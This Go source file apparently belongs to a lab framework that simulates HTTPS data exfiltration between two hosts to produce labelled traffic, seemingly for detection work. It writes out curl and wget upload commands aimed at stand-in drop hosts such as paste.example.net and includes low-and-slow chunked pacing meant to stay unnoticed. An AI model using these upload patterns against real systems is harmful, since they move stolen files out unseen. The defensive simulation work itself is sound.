// Package exfilhttps is stolen data that leave over HTTPS.
package exfilhttps

import (
	"context"
	_ "embed"
	"errors"
	"fmt"
	"strings"
	"time"

	"tyto/lab"
	"tyto/lab/c2"
	"tyto/lab/label"
)

// Scenario sends an archive to a drop: at once, in chunks, or low and slow.
var Scenario = lab.Scenario{
	Name:       "exfil-https",
	Doc:        "An archive is sent to a drop on the web: at once, in chunks, or low and slow. Teaches uploads that nobody in the office asked for, at every pace.",
	Labels:     []label.Label{label.Upload, label.Exfiltration},
	Techniques: []string{"T1048.002", "T1567", "T1030", "T1029"},
	Twin:       "https-upload",
	Hosts:      []string{"client", "server"},
	Variants: []lab.Variant{
		variant("curl-go"), variant("wget-go"), variant("python-go"), variant("curl-nginx"), variant("wget-nginx"), variant("python-nginx"),
	},
	Params: []lab.Param{
		{Name: "pace", Doc: "all at once, in chunks, or in small ones with long pauses", Values: []string{"fast", "chunked", "slow"}},
		{Name: "size", Doc: "of the archive in kB, about; less where it is slow", Values: []string{"60", "400", "2000", "8000"}},
		{Name: "chunks", Doc: "how many, unless it is fast", Values: []string{"4", "9", "16"}},
		{Name: "pause", Doc: "between chunks, about, of slow ones eight times as long", Values: []string{"100ms", "400ms", "900ms"}},
		{Name: "name", Doc: "of the drop", Values: []string{"files.share.example", "paste.example.net", "transfer.example.org", "storage.cloud.example"}},
	},
	Programs: c2.DropPrograms(),
	Limit:    8 * time.Minute,
	Run:      run,
}

var programs = map[string]string{"curl": "curl", "wget": "wget", "python": "/usr/bin/python3", "nginx": "nginx", "go": "openssl"}

func variant(name string) lab.Variant {
	client, server, _ := strings.Cut(name, "-")
	return lab.Variant{Name: name, Needs: []string{programs[client], programs[server], "openssl"}}
}

// pythonPut sends all chunks in one connection: name, pause, chunks. It tells
// the times, which are closer to the wire than the drop's.
//
//go:embed send.py
var pythonPut string

func run(ctx context.Context, r *lab.Run) error {
	client, server := r.Host("client"), r.Host("server")
	program, web, _ := strings.Cut(r.Variant(), "-")
	r.Installed(client, programs[program])
	site := r.Param("name")
	if err := client.Names(map[string]*lab.Host{site: server}); err != nil {
		return err
	}
	drop, err := c2.Drop(ctx, r, client, server, c2.Plan{Name: site, Front: web == "nginx"})
	if err != nil {
		return err
	}
	pause, err := time.ParseDuration(r.Param("pause"))
	if err != nil {
		return err
	}
	size, count := r.ParamInt("size"), r.ParamInt("chunks")
	switch r.Param("pace") {
	case "fast":
		count = 1
	case "slow":
		size, pause = min(size, 3*count), 8*pause
		r.SetParam("size", fmt.Sprint(size))
	}
	r.SetParam("chunks", fmt.Sprint(count))
	chunks, names := make(map[string]string), []string{}
	for i := range count {
		name := fmt.Sprintf("%03d.part", i)
		names = append(names, name)
		chunks[name] = lab.Random(int(1000*float64(size)/float64(count)*(.7+.6*r.Rand().Float64())), r.Rand())
	}
	if err := client.WriteFiles("", chunks); err != nil {
		return err
	}
	owners := make(map[string]*lab.Process)
	send := func(names []string, args ...string) error {
		p, err := client.Start(ctx, lab.Command{Args: args})
		if err != nil {
			return err
		}
		r.Label(lab.Of(p), label.Upload, label.Exfiltration)
		for _, name := range names {
			owners[name] = p
		}
		return p.Wait(ctx)
	}
	if program == "python" {
		err = send(names, append([]string{"/usr/bin/python3", "-c", pythonPut, site, fmt.Sprint(pause.Seconds())}, names...)...)
	}
	for i, name := range names {
		if program == "python" || err != nil {
			break
		}
		if i > 0 {
			err = r.Sleep(ctx, time.Duration(float64(pause)*(.6+.8*r.Rand().Float64())))
		}
		url := "https://" + site + "/upload/" + name
		args := map[string][]string{"curl": {"curl", "-sSf", "-T", name, url}, "wget": {"wget", "-q", "-O", "-", "--post-file", name, url}}[program]
		err = errors.Join(err, send([]string{name}, args...))
	}
	if err != nil {
		return err
	}
	return c2.CheckUploads(r, drop, server, chunks, owners)
}
